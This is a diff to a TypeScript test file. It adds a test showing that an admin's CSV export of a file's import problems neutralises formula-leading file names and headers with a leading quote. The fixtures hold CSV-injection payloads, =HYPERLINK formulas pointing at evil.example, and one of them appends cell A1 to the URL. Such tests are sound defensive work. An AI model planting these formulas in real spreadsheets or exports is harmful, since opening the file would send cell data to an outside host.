@@ -3,7 +3,8 @@
  * values that came from a file or from the service and that a spreadsheet
  * would run (=, +, -, @, tab or carriage return first) are written with a
  * leading single quote, through `foyer outbox export` and through the admin's
- * export operation alike. No service is reached: the outbox row is written
+ * export operation alike; so are a file's name and headers in the admin's
+ * CSV of a file's problems. No service is reached: the outbox row is written
  * into the mirror directly, as a delivery would leave it.
  */
 import { mkdtempSync, rmSync } from 'node:fs';
@@ -106,6 +107,29 @@ describe('exported results', () => {
       };
       expect(answer.fileName).toBe(`foyer-results-${outboxId}.csv`);
       expectNeutral(answer.csv);
+    } finally {
+      await runtime.close();
+    }
+  });
+
+  it("the admin's problems of a file neutralise the file's name and its headers", async () => {
+    const runtime = await openRuntime({ dataDir: dir });
+    try {
+      const core = createAppCore(runtime);
+      const fileName = '=HYPERLINK("http:evil.example","open").csv';
+      const header = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+      const answer = await core.call(createSession('admin-2', 'admin'), 'imports.issuesCsv', {
+        kind: 'identities',
+        fileName,
+        // The header as a spreadsheet writes it: quoted, its quotes doubled.
+        contentBase64: Buffer.from(
+          `sourceId,email,"${header.replaceAll('"', '""')}"\nid-1,a@example.test,x\n`,
+        ).toString('base64'),
+      });
+      const records = parse(answer.csv, { columns: true }) as Record<string, string>[];
+      expect(records).toEqual([
+        { file: `'${fileName}`, line: '1', column: `'${header}`, problem: expect.stringMatching(/^unknown column/) },
+      ]);
     } finally {
       await runtime.close();
     }
